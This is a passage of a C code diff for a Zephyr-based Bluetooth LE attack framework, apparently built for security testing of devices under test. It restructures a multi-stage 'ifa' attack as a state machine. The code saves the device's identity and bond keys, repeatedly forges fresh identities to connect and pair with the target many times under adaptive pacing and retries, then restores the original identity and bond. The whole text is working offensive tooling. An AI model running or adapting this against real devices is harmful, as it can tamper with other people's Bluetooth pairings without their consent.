+    ifa_unpair(BT_ID_DEFAULT, &sm->target);
+    if (sm->conn) {
+      bt_conn_unref(sm->conn);
+      sm->conn = NULL;
+    }
+    return IFA_STEP_DONE;
+  case IFA_STEP_ID_RESTORE: {
+    bt_addr_le_t id_addr;
+    uint8_t id_irk[16];
+
+    // the restored identity and snapshot have to reach flash for the reload of stage 3
+    ramstore_end();
+    // the identity the DUT bonded with is the one of its slot; ifa3 without target falls back to the saved one
+    if (!bt_addr_le_eq(&sm->target, BT_ADDR_LE_ANY) && !snapshot_identity(&sm->target, &id_addr, id_irk)) {
+      ifa_id_set(&id_addr, id_irk);
+      shell_print(shell, "id reset to the identity of the snapshot");
+    } else {
+      cmd_ifa_id_restore();
+    }
+    return IFA_STEP_DONE;
+  }
+  case IFA_STEP_SNAPSHOT_RESTORE:
+    // the slot of the target if there is one (ifa3 has no target), otherwise the last snapshot taken
+    if (bt_addr_le_eq(&sm->target, BT_ADDR_LE_ANY) || snapshot_restore_keys(&sm->target)) {
+      cmd_ifa_snapshot_restore();
+    }
+    return IFA_STEP_DONE;
+  case IFA_STEP_RELOAD:
+    return ifa_reload(sm);
+  case IFA_STEP_ADVERTISE:
+    w_advertising_start();
+    return IFA_STEP_DONE;
+  case IFA_STEP_REPORT:
+    return ifa_report(sm);
+  case IFA_STEP_ACCEPT:
+    return ifa_accept(sm);
+  case IFA_STEP_AWAIT_SECURITY:
+    return ifa_await_security(sm);
+  case IFA_STEP_VERIFY:
+    return ifa_verify(sm);
+  case IFA_STEP_COUNT:
+    break;
+  }
+
+  return -EINVAL;
+}
+
+// feeds one event into the current (pending) step
+static int ifa_step_event(struct ifa_sm *sm, const struct ifa_evt *evt){
+
+  if (sm->auto_pending) {
+    return ifa_connect_auto_event(sm, evt);
+  }
+
+  if (ifa_sm_cur_step(sm) == IFA_STEP_ACCEPT) {
+    return ifa_accept_event(sm, evt);
+  }
+
+  if (!sm->conn || evt->conn != sm->conn) {
+    return IFA_STEP_PENDING;
+  }
+
+  switch (ifa_sm_cur_step(sm)) {
+  case IFA_STEP_CONNECT:
+    if (evt->type != IFA_EVT_CONNECTED) {
+      break;
+    }
+    if (evt->status) {
+      // the stack already dropped the failed connection object
+      bt_conn_unref(sm->conn);
+      sm->conn = NULL;
+      return -ENOTCONN;
+    }
+    stats_record(STATS_CONNECT, sm->step_start, evt->ts);
+    return IFA_STEP_DONE;
+
+  case IFA_STEP_SECURE:
+  case IFA_STEP_AWAIT_SECURITY:
+    switch (evt->type) {
+    case IFA_EVT_PAIRING_FEAT:
+      sm->pairing = true;
+      sm->remote_key_size = evt->status;
+      stats_record(STATS_PAIRING_FEAT, sm->step_start, evt->ts);
+      break;
+    case IFA_EVT_SECURITY_CHANGED:
+      if (evt->status) {
+        sm->sec_err = evt->status;
+        return -EACCES;
+      }
+      stats_record(STATS_SECURITY, sm->step_start, evt->ts);
+      // when pairing, keys are distributed after encryption; wait for pairing_complete
+      if (!sm->pairing) {
+        return ifa_sm_cur_step(sm) == IFA_STEP_AWAIT_SECURITY ? ifa_await_security_done(sm) : IFA_STEP_DONE;
+      }
+      break;
+    case IFA_EVT_PAIRING_COMPLETE:
+      stats_record(STATS_PAIRING, sm->step_start, evt->ts);
+      return ifa_sm_cur_step(sm) == IFA_STEP_AWAIT_SECURITY ? ifa_await_security_done(sm) : IFA_STEP_DONE;
+    case IFA_EVT_PAIRING_FAILED:
+      sm->sec_err = evt->status;
+      return -EACCES;
+    case IFA_EVT_DISCONNECTED:
+      return -ENOTCONN;
+    }
+    break;
+
+  case IFA_STEP_DISCONNECT:
+    if (evt->type == IFA_EVT_DISCONNECTED) {
+      stats_record(STATS_DISCONNECT, sm->step_start, evt->ts);
+      return IFA_STEP_DONE;
+    }
+    break;
+
+  default:
+    break;
+  }
+
+  return IFA_STEP_PENDING;
+}
+
+// stage 3 of both attacks: original identity and the bond of stage 1 back, the campaign ends with it
+static bool ifa_stage_restores(enum ifa_stage stage){
+  return stage == IFA_STAGE_3 || stage == IFA_STAGE_3_PA;
+}
+
+// stages run n times, an iteration that keeps failing is skipped and the gap between iterations is paced
+static bool ifa_stage_loops(enum ifa_stage stage){
+  return stage == IFA_STAGE_2 || stage == IFA_STAGE_2_PA;
+}
+
+// commits the progress of a campaign run, see campaign.c
+static void ifa_checkpoint(const struct ifa_sm *sm){
+  struct campaign_state cp;
+
+  if (!sm->campaign) {
+    return;
+  }
+
+  // compared bytewise against the last commit, padding included
+  memset(&cp, 0, sizeof(cp));
+  cp.target = sm->target;
+  cp.n = sm->n;
+  cp.profile = sm->profile;
+  cp.stage = sm->stage;
+  cp.last_stage = sm->last_stage;
+  cp.done = sm->finished;
+  cp.iter = sm->iter;
+  cp.id_saved = id_saved;
+  cp.old_addr = old_addr;
+  memcpy(cp.old_irk, old_irk, sizeof(cp.old_irk));
+
+  campaign_commit(&cp);
+}
+
+static void ifa_campaign_end(struct ifa_sm *sm){
+  if (sm->campaign) {
+    campaign_clear();
+    sm->campaign = false;
+  }
+}
+
+// start value of the gap: what the DUT tolerated last time
+static void ifa_pace_init(struct ifa_sm *sm){
+  struct dut_info info;
+
+  sm->gap_ms = 0;
+  if (pacing.on && !dut_lookup(&sm->target, &info) && (info.flags & DUT_HAS_PACE)) {
+    sm->gap_ms = MIN(info.pace_gap_ms, pacing.max_ms);
+  }
+}
+
+// end of a stage 2 iteration: multiplicative increase after a failure, additive decrease otherwise
+static void ifa_pace_update(struct ifa_sm *sm){
+  uint32_t gap = sm->gap_ms;
+
+  if (!pacing.on) {
+    return;
+  }
+
+  if (sm->iter_failed) {
+    gap = MIN(MAX(gap * 2, pacing.step_ms), pacing.max_ms);
+  } else {
+    gap = gap > pacing.step_ms ? gap - pacing.step_ms : 0;
+  }
+  sm->iter_failed = false;
+
+  if (gap != sm->gap_ms) {
+    sm->gap_ms = gap;
+    if (output_structured()) {
+      ifa_record(sm, "pace", 0, false);
+    } else {
+      shell_print(shell, "pacing: %u ms between iterations", gap);
+    }
+  }
+  sm->pace_pending = gap != 0;
+}
+
+static void ifa_pace_store(struct ifa_sm *sm){
+  if (pacing.on && ifa_stage_loops(sm->stage)) {
+    dut_note_pace(&sm->target, sm->gap_ms);
+  }
+}
+
+// moves to the next step; returns false once the last stage is complete
+static bool ifa_sm_next(struct ifa_sm *sm){
+  const struct ifa_stage_def *def = &stages[sm->stage];
+
+  // the retry budget is spent once the step that failed has passed
+  if (sm->step >= sm->failed_step) {
+    sm->attempt = 0;
+    sm->failed_step = 0;
+  }
+
+  if (++sm->step < def->n_steps) {
+    return true;
+  }
+
+  sm->step = 0;
+
+  if (ifa_stage_loops(sm->stage)) {
+    stats_record_since(STATS_ITERATION, sm->iter_start);
+    if (output_structured()) {
+      ifa_record(sm, "iteration", 0, false);
+    } else {
+      shell_print(shell, "fake id connection event: %d completed\n", (sm->iter + 1));
+    }
+    if (++sm->iter < sm->n) {
+      ifa_pace_update(sm);
+      if (sm->iter % CAMPAIGN_CKPT_ITERS == 0) {
+        ifa_checkpoint(sm);
+      }
+      return true;
+    }
+    ifa_pace_store(sm);
+  }
+
+  if (output_structured()) {
+    ifa_record(sm, "stage_done", 0, false);
+  } else {
+    shell_print(shell, "\nstage %s complete. \n", def->name);
+  }
+
+  // original identity and bond are back in place
+  if (ifa_stage_restores(sm->stage)) {
+    ifa_campaign_end(sm);
+  }
+
+  if (sm->stage == sm->last_stage) {
+    sm->finished = true;
+    ifa_checkpoint(sm);
+    return false;
+  }
+
+  sm->stage++;
+  ifa_checkpoint(sm);
+  return true;
+}
+
+static void ifa_sm_release(struct ifa_sm *sm){
+  ifa_connect_auto_stop(sm);
+  ifa_accept_stop(sm);
+  sm->initiating = false;
+  if (sm->conn) {
+    bt_conn_unref(sm->conn);
+    sm->conn = NULL;
+  }
+}
+
+static int ifa_sm_wait(struct ifa_sm *sm, enum ifa_phase phase, uint32_t timeout_ms){
+  sm->phase = phase;
+  sm->deadline = sys_timepoint_calc(timeout_ms ? K_MSEC(timeout_ms) : K_FOREVER);
+  return IFA_STEP_PENDING;
+}
+
+// the controller has a single initiator; is another session of the running set connecting, or cancelling its connect?
+static bool ifa_initiator_busy(const struct ifa_sm *self){
+  for (uint8_t i = 0; i < ifa_set_n; i++) {
+    const struct ifa_sm *sm = &ifa_set[i];
+
+    if (sm != self && sm->res == IFA_STEP_PENDING && sm->initiating) {
+      return true;
+    }
+  }
+
+  return false;
+}
+
+// executes the current step and arms its deadline if it has to wait for an event
+static int ifa_sm_enter(struct ifa_sm *sm){
+  enum ifa_step step = ifa_sm_cur_step(sm);
+  int res;
+
+  if (step == IFA_STEP_CONNECT && ifa_initiator_busy(sm)) {
+    return ifa_sm_wait(sm, IFA_PHASE_INITIATOR, 0);
+  }
+
+  sm->step_start = stats_now();
+  if (sm->step == 0) {
+    sm->iter_start = sm->step_start;
+  }
+
+  res = ifa_step_enter(sm);
+  if (res == IFA_STEP_PENDING && step == IFA_STEP_CONNECT) {
+    sm->initiating = true;
+  }
+  if (res == IFA_STEP_DONE && step == IFA_STEP_ID_RESET) {
+    stats_record_since(STATS_ID_RESET, sm->step_start);
+    sm->id_changed = true;
+  }
+  if (res == IFA_STEP_DONE && step == IFA_STEP_UNPAIR) {
+    stats_record_since(STATS_UNPAIR, sm->step_start);
+  }
+  if (res == IFA_STEP_DONE && step == IFA_STEP_ID_RESTORE) {
+    sm->id_changed = false;
+  }
+  if (res == IFA_STEP_PENDING) {
+    return ifa_sm_wait(sm, IFA_PHASE_STEP, step_policy[step].timeout_ms);
+  }
+
+  return res;
+}
+
+// index of the step a failed step is retried from; securing needs a fresh connection
+static uint8_t ifa_sm_retry_step(struct ifa_sm *sm){
+  const struct ifa_stage_def *def = &stages[sm->stage];
+  enum ifa_step from;
+
+  switch (ifa_sm_cur_step(sm)) {
+  case IFA_STEP_SECURE:
+    from = IFA_STEP_CONNECT;
+    break;
+  case IFA_STEP_AWAIT_SECURITY:
+    from = IFA_STEP_ACCEPT;
+    break;
+  default:
+    return sm->step;
+  }
+
+  for (uint8_t i = 0; i < sm->step; i++) {
+    if (def->steps[i] == from) {
+      return i;
+    }
+  }
+
+  return sm->step;
+}
+
+static void ifa_restore_original(struct ifa_sm *sm){
+  if (!sm->id_changed) {
+    return;
+  }
+
+  shell_print(shell, "restoring original identity and snapshot");
+  ramstore_end();
+  cmd_ifa_id_restore();
+  if (snapshot_taken) {
+    cmd_ifa_snapshot_restore();
+  }
+  sm->id_changed = false;
+}
+
+// continues after teardown: abort, skip the stage 2 iteration or back off before the retry
+static int ifa_sm_resume(struct ifa_sm *sm){
+  uint32_t backoff;
+
+  ifa_sm_release(sm);
+
+  if (sm->aborting) {
+    ifa_pace_store(sm);
+    ifa_restore_original(sm);
+    ifa_campaign_end(sm);
+    if (output_structured()) {
+      ifa_record(sm, "abort", -ECANCELED, false);
+    } else {
+      shell_error(shell, "ifa aborted in stage %s, step %s", stages[sm->stage].name, step_names[ifa_sm_cur_step(sm)]);
+    }
+    return -ECANCELED;
+  }
+
+  if (sm->fail_err) {
+    return sm->fail_err;
+  }
+
+  if (sm->skip) {
+    sm->skip = false;
+    ifa_unpair(BT_ID_DEFAULT, &sm->target);
+    // jump behind the last step of this iteration
+    sm->step = stages[sm->stage].n_steps - 1;
+    sm->phase = IFA_PHASE_STEP;
+    return IFA_STEP_DONE;
+  }
+
+  // attempt goes up to 255, the doubling stops long before the shift would overflow
+  backoff = MIN((uint32_t)step_policy[ifa_sm_cur_step(sm)].backoff_ms << MIN(sm->attempt - 1, 15),
+                IFA_BACKOFF_MAX_MS);
+  if (output_structured()) {
+    ifa_record(sm, "retry", 0, false);
+  } else {
+    shell_print(shell, "retrying %s (%d/%d) in %u ms", step_names[ifa_sm_cur_step(sm)], sm->attempt,
+                step_policy[ifa_sm_cur_step(sm)].retries, backoff);
+  }
+
+  /* no backoff: retry on the next tick (a wait of 0 ms would never expire). Entering the step from here would hand an
+   * immediate failure of it back to ifa_sm_fail()'s caller as the end of the run; the timeout path retries it.
+   */
+  if (!backoff) {
+    sm->phase = IFA_PHASE_BACKOFF;
+    sm->deadline = sys_timepoint_calc(K_TICKS(1));
+    return IFA_STEP_PENDING;
+  }
+
+  return ifa_sm_wait(sm, IFA_PHASE_BACKOFF, backoff);
+}
+
+// brings the link of the current step down (bounded by the disconnect deadline) before resuming
+static int ifa_sm_teardown(struct ifa_sm *sm){
+
+  // nothing to disconnect yet, the controller is still looking for the DUT or the DUT for us
+  ifa_connect_auto_stop(sm);
+  ifa_accept_stop(sm);
+
+  // disconnecting a pending connection cancels it, connected() then reports the failure
+  if (sm->conn && !bt_conn_disconnect(sm->conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN)) {
+    return ifa_sm_wait(sm, IFA_PHASE_TEARDOWN, step_policy[IFA_STEP_DISCONNECT].timeout_ms);
+  }
+
+  return ifa_sm_resume(sm);
+}
+
+/* Handles a failed step: retry it within its policy, otherwise skip the iteration (stage 2) or end the run. */
+static int ifa_sm_fail(struct ifa_sm *sm, int err){
+  enum ifa_step step = ifa_sm_cur_step(sm);
+
+  // the teardown of an abort or of the final failure already ends the run
+  if (sm->aborting || sm->fail_err) {
+    return err;
+  }
 
-#include <host/keys.h>
+  sm->iter_failed = true;
 
-#include "zephyr/bluetooth/addr.h"
-#include "zephyr/bluetooth/bluetooth.h"
-#include "zephyr/bluetooth/conn.h"
-#include "zephyr/settings/settings.h"
+  if (output_structured()) {
+    ifa_record(sm, "step_failed", err, false);
+  } else {
+    shell_error(shell, "stage %s: step %s failed (err %d)", stages[sm->stage].name, step_names[step], err);
+  }
 
-static bool snapshot_taken = false;
-static bool id_saved = false;
+  if (sm->attempt < step_policy[step].retries) {
+    sm->attempt++;
+    sm->failed_step = sm->step;
+    sm->resume_step = ifa_sm_retry_step(sm);
+    return ifa_sm_teardown(sm);
+  }
 
-uint8_t old_irk[16] = {0};
-bt_addr_le_t old_addr;
+  // the link must not outlive the job, the next one could not connect to the DUT
+  if (!ifa_stage_loops(sm->stage)) {
+    sm->fail_err = err;
+    sm->connect_failed = step == IFA_STEP_CONNECT;
+    return ifa_sm_teardown(sm);
+  }
 
-K_SEM_DEFINE(conn_sem, 0, 1);
-K_SEM_DEFINE(disconn_sem, 0, 1);
-K_SEM_DEFINE(bond_sem, 0, 1);
+  if (output_structured()) {
+    ifa_record(sm, "skip", err, false);
+  } else {
+    shell_error(shell, "stage %s: step %s failed for good (err %d), skipping iteration %d", stages[sm->stage].name,
+                step_names[step], err, sm->iter + 1);
+    if (!pacing.on && (step == IFA_STEP_CONNECT || step == IFA_STEP_ACCEPT)) {
+      shell_error(shell, "This might indicate that the device does not allow multiple connection events in a short time frame. You should consider attempting the attack manually");
+      shell_error(shell, "To get help with this call bleframework ifa_help");
+    }
+  }
 
-void bt_rpa_invalidate(void);
+  sm->skip = true;
+  return ifa_sm_teardown(sm);
+}
 
-/* Part 1: internal functions ------------------------------------------------------------------------------------------- */
+static int ifa_sm_event(struct ifa_sm *sm, const struct ifa_evt *evt){
 
-static int id_reset(uint8_t id, bt_addr_le_t *addr, uint8_t *irk){
-  int err;
+  // the initiator is free once connected() reported our connection, established or not
+  if (evt->type == IFA_EVT_CONNECTED && sm->conn && evt->conn == sm->conn) {
+    sm->initiating = false;
+  }
 
-  if(!irk && !addr) {
-    // Reseting with new random addr and irk.
-    err = bt_id_reset(id, NULL, NULL);
-    if(err < 0){
-      shell_error(shell, "id_reset(): Identity reset failed with code %d", err);
-      return err;
+  if (evt->type == IFA_EVT_ABORT) {
+    sm->aborting = true;
+    if (sm->phase == IFA_PHASE_TEARDOWN) {
+      return IFA_STEP_PENDING;
     }
+    return ifa_sm_teardown(sm);
+  }
 
-  } else {
-    // Reseting with set addr and irk.
-    err = bt_id_reset(id, addr, irk);
-    if(err < 0){
-      shell_error(shell, "id_reset(): Identity reset failed with code %d", err);
-      return err;
+  switch (sm->phase) {
+  case IFA_PHASE_STEP:
+    return ifa_step_event(sm, evt);
+  case IFA_PHASE_TEARDOWN:
+    if (sm->conn && evt->conn == sm->conn &&
+        (evt->type == IFA_EVT_DISCONNECTED || (evt->type == IFA_EVT_CONNECTED && evt->status))) {
+      return ifa_sm_resume(sm);
     }
+    break;
+  case IFA_PHASE_BACKOFF:
+  case IFA_PHASE_PACE:
+  case IFA_PHASE_INITIATOR:
+    break;
   }
-  // invalidate rpa to start new connection with new rpa (otherwise rpa might still be valid and an old RPA will be used.
-  bt_rpa_invalidate();
 
-  return 0;
+  return IFA_STEP_PENDING;
 }
 
-static void get_addr_plus_irk(bt_addr_le_t *addr, uint8_t *log_irk, bool debugging) {
-  char addr_str[BT_ADDR_LE_STR_LEN];
-  char irk_str[17];
+static int ifa_sm_timeout(struct ifa_sm *sm){
+
+  switch (sm->phase) {
+  case IFA_PHASE_STEP:
+    return -ETIMEDOUT;
+  case IFA_PHASE_TEARDOWN:
+    shell_error(shell, "link did not go down in time, releasing it anyways");
+    return ifa_sm_resume(sm);
+  case IFA_PHASE_BACKOFF:
+  case IFA_PHASE_PACE:
+    sm->phase = IFA_PHASE_STEP;
+    sm->step = sm->resume_step;
+    return ifa_sm_enter(sm);
+  case IFA_PHASE_INITIATOR:
+    return IFA_STEP_PENDING;
+  }
 
-  bt_get_irk(BT_ID_DEFAULT, log_irk);
-  bt_get_identity(BT_ID_DEFAULT, addr);
+  return -EINVAL;
+}
 
-  if (debugging) {
-    bt_addr_le_to_str(addr, addr_str, BT_ADDR_LE_STR_LEN);
+// runs synchronous steps back to back until one is pending or the run ended
+static int ifa_sm_advance(struct ifa_sm *sm, int res){
 
-    for (size_t i = 0; i < 16; i++) {
-      sprintf(&irk_str[i * 2], "%02x", log_irk[16 - 1 - i]);
+  for (;;) {
+    if (res < 0) {
+      res = ifa_sm_fail(sm, res);
+      if (res < 0) {
+        return res;
+      }
     }
-    irk_str[16 * 2] = '\0';
 
-    shell_print(shell, "Got addr: %s, and irk 0x%s ", addr_str, irk_str);
+    if (res == IFA_STEP_PENDING) {
+      return res;
+    }
+
+    if (!ifa_sm_next(sm)) {
+      return IFA_STEP_DONE;
+    }
+
+    if (sm->pace_pending) {
+      sm->pace_pending = false;
+      sm->resume_step = sm->step;
+      return ifa_sm_wait(sm, IFA_PHASE_PACE, sm->gap_ms);
+    }
+
+    res = ifa_sm_enter(sm);
   }
 }
 
-static int ifa_connect(bt_addr_le_t *addr, struct bt_conn **conn){
-  uint32_t options = 0;
-  int err;
-  struct bt_conn_le_create_param *create_params = BT_CONN_LE_CREATE_PARAM(options, BT_GAP_SCAN_FAST_INTERVAL, BT_GAP_SCAN_FAST_WINDOW);
+// starts the connect step of the first session waiting for the initiator, once it is free
+static void ifa_sm_kick(struct ifa_sm *sms, uint8_t n){
+  for (uint8_t i = 0; i < n; i++) {
+    struct ifa_sm *sm = &sms[i];
 
-  err = bt_conn_le_create(addr, create_params, BT_LE_CONN_PARAM_DEFAULT, conn);
-  if (err < 0) {
-    shell_print(shell, "ifa_connect(): Connection failed (%d)", err);
-    return -ENOEXEC;
+    if (sm->res != IFA_STEP_PENDING || sm->phase != IFA_PHASE_INITIATOR) {
+      continue;
+    }
+    if (ifa_initiator_busy(sm)) {
+      return;
+    }
+
+    sm->phase = IFA_PHASE_STEP;
+    sm->res = ifa_sm_advance(sm, ifa_sm_enter(sm));
   }
+}
 
-  k_sem_take(&conn_sem, K_FOREVER);
-  return 0;
+// stages of the campaign whose bonds the ram store keeps off flash until stage 3 restores
+static bool ifa_stage_bonds(enum ifa_stage stage){
+  switch (stage) {
+  case IFA_STAGE_1:
+  case IFA_STAGE_2:
+  case IFA_STAGE_1_P:
+  case IFA_STAGE_2_1_P:
+  case IFA_STAGE_2_2_P:
+  case IFA_STAGE_1_PA:
+  case IFA_STAGE_2_PA:
+    return true;
+  default:
+    return false;
+  }
 }
 
-static int ifa_securiy(struct bt_conn *conn){
-  int err;
+/* Runs n state machines side by side on the one event queue. Every event is offered to every pending machine; each
+ * only reacts to its own connection, so sessions against different DUTs do not see each other's callbacks. The runner
+ * sleeps until the next event or the earliest deadline of all machines.
+ */
+static int ifa_sm_run(struct ifa_sm *sms, uint8_t n){
+  struct ifa_evt evt;
+  k_timepoint_t next;
+  bool pending;
+  int res = 0;
+
+  // a pending campaign holds its bonds in RAM; only its next stages may run, other bonds would never reach flash
+  if (ramstore_active() && !ifa_stage_bonds(sms[0].stage) && !ifa_stage_restores(sms[0].stage)) {
+    return ramstore_refuse(shell);
+  }
 
-  err = bt_conn_set_security(conn, BT_SECURITY_L2);
-  if (err < 0) {
-    shell_error(shell, "ifa_securiy(): Setting security failed with err: %d", err);
-    return err;
+  k_msgq_purge(&ifa_evtq);
+  ifa_set = sms;
+  ifa_set_n = n;
+  atomic_set(&ifa_running, 1);
+
+  // bonding stages; the campaign continues over separately queued stages until stage 3 commits. The identity pool
+  // only pays off when the identity of each stage 2 iteration is not written to flash, so it implies the RAM store.
+  if (ifa_stage_bonds(sms[0].stage)) {
+    ramstore_begin(idpool_enabled());
   }
 
-  k_sem_take(&bond_sem, K_FOREVER); // Wait until bonding is complete
-  k_sleep(K_MSEC(1000));
-  return err;
+  for (uint8_t i = 0; i < n; i++) {
+    sms[i].start_ms = k_uptime_get_32();
+    ifa_pace_init(&sms[i]);
+    ifa_checkpoint(&sms[i]);
+    sms[i].res = ifa_sm_advance(&sms[i], ifa_sm_enter(&sms[i]));
+  }
+
+  for (;;) {
+    ifa_sm_kick(sms, n);
+
+    pending = false;
+    next = sys_timepoint_calc(K_FOREVER);
+    for (uint8_t i = 0; i < n; i++) {
+      if (sms[i].res == IFA_STEP_PENDING) {
+        pending = true;
+        if (sys_timepoint_cmp(sms[i].deadline, next) < 0) {
+          next = sms[i].deadline;
+        }
+      }
+    }
+    if (!pending) {
+      break;
+    }
+
+    if (k_msgq_get(&ifa_evtq, &evt, sys_timepoint_timeout(next))) {
+      for (uint8_t i = 0; i < n; i++) {
+        if (sms[i].res == IFA_STEP_PENDING && sys_timepoint_expired(sms[i].deadline)) {
+          sms[i].res = ifa_sm_advance(&sms[i], ifa_sm_timeout(&sms[i]));
+        }
+      }
+    } else {
+      for (uint8_t i = 0; i < n; i++) {
+        if (sms[i].res == IFA_STEP_PENDING) {
+          sms[i].res = ifa_sm_advance(&sms[i], ifa_sm_event(&sms[i], &evt));
+        }
+      }
+    }
+  }
+
+  atomic_set(&ifa_running, 0);
+  ifa_set_n = 0;
+  ifa_set = NULL;
+
+  for (uint8_t i = 0; i < n; i++) {
+    ifa_sm_release(&sms[i]);
+    if (!sms[i].finished && !res) {
+      res = sms[i].res;
+    }
+  }
+
+  // the store outlives the job only while a later ifa3 has to restore; a broken campaign will not get there
+  if (res || !ifa_stage_bonds(sms[0].last_stage)) {
+    ramstore_end();
+  }
+
+  return res;
 }
 
-static int ifa_unpair(uint8_t id, bt_addr_le_t *addr){
-  int err;
+static int ifa_run_stages(enum ifa_stage first, enum ifa_stage last, const struct worker_job *job){
+  struct ifa_sm sm = {
+    .stage = first,
+    .last_stage = last,
+    .target = job->addr,
+    .n = job->n,
+    .profile = job->profile,
+    .campaign = stages[first].campaign,
+  };
+
+  return ifa_sm_run(&sm, 1);
+}
 
-	err = bt_unpair(id, addr);
-	if (err) {
-		shell_error(shell, "ifa_unpair(): Failed to clear pairing (err %d)", err);
-    return err;
-	}
+// continues the campaign of the checkpoint with the identity saved in its stage 1
+static int ifa_job_resume(const struct worker_job *job){
+  struct campaign_state cp;
+  struct ifa_sm sm = { 0 };
 
-  return err;
+  if (campaign_get(&cp)) {
+    shell_error(shell, "no campaign to resume");
+    return -ENOENT;
+  }
+
+  if (cp.id_saved) {
+    old_addr = cp.old_addr;
+    memcpy(old_irk, cp.old_irk, sizeof(old_irk));
+    id_saved = true;
+  }
+
+  if (cp.done) {
+    shell_print(shell, "stage %s of the campaign is complete, original identity restored for stage 3",
+                stages[cp.stage].name);
+    return 0;
+  }
+
+  sm.stage = cp.stage;
+  sm.last_stage = cp.last_stage;
+  sm.target = cp.target;
+  sm.n = cp.n;
+  sm.iter = cp.iter;
+  sm.profile = cp.profile;
+  sm.campaign = true;
+  // without the ram store the stage 2 identity reached flash and is the one we booted with
+  sm.id_changed = cp.id_saved && ifa_stage_loops(cp.stage);
+
+  return ifa_sm_run(&sm, 1);
 }
 
-static int ifa_snapshot_take(bt_addr_le_t *addr){
 
-  bt_keys_snapshot_take(addr);
-  snapshot_taken = true;
+/* jobs executed by the worker thread */
 
-  return 0;
+static int ifa_job_stage1(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_1, IFA_STAGE_1, job);
 }
 
-static void ifa_stage1(bt_addr_le_t target_addr){
-  struct bt_conn *conn = NULL;
-  int err;
+static int ifa_job_stage1_periph(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_1_P, IFA_STAGE_1_P, job);
+}
 
-  cmd_ifa_id_save();
+static int ifa_job_stage2(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_2, IFA_STAGE_2, job);
+}
 
-  ifa_connect(&target_addr, &conn);
-  ifa_securiy(conn);
-  ifa_snapshot_take(&target_addr);
+static int ifa_job_stage2_1_periph(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_2_1_P, IFA_STAGE_2_1_P, job);
+}
 
-  err = bt_conn_disconnect(conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
-  if (err) {
-    shell_error(shell, "Disconnection failed, reason: %d (%s)", err, bt_hci_err_to_str(err));
-  }
+static int ifa_job_stage2_2_periph(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_2_2_P, IFA_STAGE_2_2_P, job);
+}
 
-  k_sem_take(&disconn_sem, K_FOREVER);
+static int ifa_job_stage3(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_3, IFA_STAGE_3, job);
+}
 
-  ifa_unpair(BT_ID_DEFAULT, &target_addr);
-  bt_conn_unref(conn);
-  conn = NULL;
+static int ifa_job_stage4(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_4, IFA_STAGE_4, job);
+}
 
-  shell_print(shell, "\nstage 1 complete. \n");
+static int ifa_job_all(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_1, IFA_STAGE_4, job);
 }
 
-static void ifa_stage1_periph(void){
+static int ifa_job_periph(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_1_PA, IFA_STAGE_4_PA, job);
+}
 
-  // save ID (BDA and IRK etc. of current peripheral = DK)
-  cmd_ifa_id_save();
+// optional trailing connection profile argument, argv[idx]
+static int ifa_parse_profile(const struct shell *sh, size_t argc, char *argv[], size_t idx){
+  int profile;
 
-  //check if default_conn exists (so if there is a connection between the two devices)
-  if (!default_conn){
-    shell_error(shell, "Connection terminated.");
+  if (argc <= idx) {
+    return CONN_PROFILE_SELECTED;
   }
 
-  // get BDA of Central
-  const bt_addr_le_t *dst = bt_conn_get_dst(default_conn); // bt_conn_get_dst() returns a const, but ifa_snapshot_take() and ifa_snapshot_take() require a non-const
+  profile = conn_profile_parse(argv[idx]);
+  if (profile < 0) {
+    shell_error(sh, "unknown connection profile %s", argv[idx]);
+  }
 
-  // get BDA of Central as string
-  char addr[BT_ADDR_LE_STR_LEN];
-  bt_addr_le_to_str(dst, addr, sizeof(addr));
+  return profile;
+}
 
-  bt_addr_le_t central_addr = *dst;   // therefor, we need to make a mutable copy of *dst
+static int ifa_submit(const struct shell *sh, const char *name, int (*run)(const struct worker_job *job),
+                      const bt_addr_le_t *addr, int n, int profile){
+  struct worker_job job = {
+    .name = name,
+    .run = run,
+    .addr = addr ? *addr : *BT_ADDR_LE_ANY,
+    .n = n,
+    .profile = profile,
+  };
+
+  if (profile < 0) {
+    return profile;
+  }
 
-  ifa_snapshot_take(&central_addr);
+  return worker_submit(sh, &job);
+}
 
-  int err = bt_conn_disconnect(default_conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
-  if (err) {
-    shell_error(shell, "Disconnection failed (err %d)", err);
+
+/* Part 2: exposed functions --------------------------------------------------------------------------------------------- */
+
+void ifa_notify(enum ifa_evt_type type, struct bt_conn *conn, int status){
+  struct ifa_evt evt = {
+    .ts = stats_now(),
+    .conn = conn,
+    .type = type,
+    .status = status,
+  };
+
+  script_event(type, status);
+  if (type == IFA_EVT_DISCONNECTED) {
+    k_sem_give(&ifa_disconnected_sem);
   }
 
-  k_sem_take(&disconn_sem, K_FOREVER);
+  if (!atomic_get(&ifa_running)) {
+    return;
+  }
 
-  ifa_unpair(BT_ID_DEFAULT, &central_addr);
-  shell_print(shell, "\nstage 1 with %s complete. \n", addr);
+  // called from the Bluetooth host context, must never block
+  if (k_msgq_put(&ifa_evtq, &evt, K_NO_WAIT)) {
+    shell_error(shell, "ifa event queue full, dropped event %u", type);
+  }
 }
 
-static void ifa_stage2(bt_addr_le_t target_addr, int n){
-  struct bt_conn *conn = NULL;
-  int err;
+int ifa_abort(void){
+  struct ifa_evt evt = {
+    .type = IFA_EVT_ABORT,
+  };
 
-  for(int i = 0; i < n; i++){
-    id_reset(BT_ID_DEFAULT, NULL, NULL);
+  if (!atomic_get(&ifa_running)) {
+    return -EALREADY;
+  }
 
-    ifa_connect(&target_addr, &conn);
-    if (!conn) {
-        shell_error(shell, "Failed to establish connection. Skipping iteration.");
-        shell_error(shell, "This might indicate that the device does not allow multiple connection events in a short time frame. You should consider attempting the attack manually");
-        shell_error(shell, "To get help with this call bleframework ifa_help");
-        continue;
-    }
+  return k_msgq_put(&ifa_evtq, &evt, K_NO_WAIT);
+}
 
-    ifa_securiy(conn);
+int ifa_pair(const struct worker_job *job){
+  return ifa_run_stages(IFA_STAGE_PAIR, IFA_STAGE_PAIR, job);
+}
 
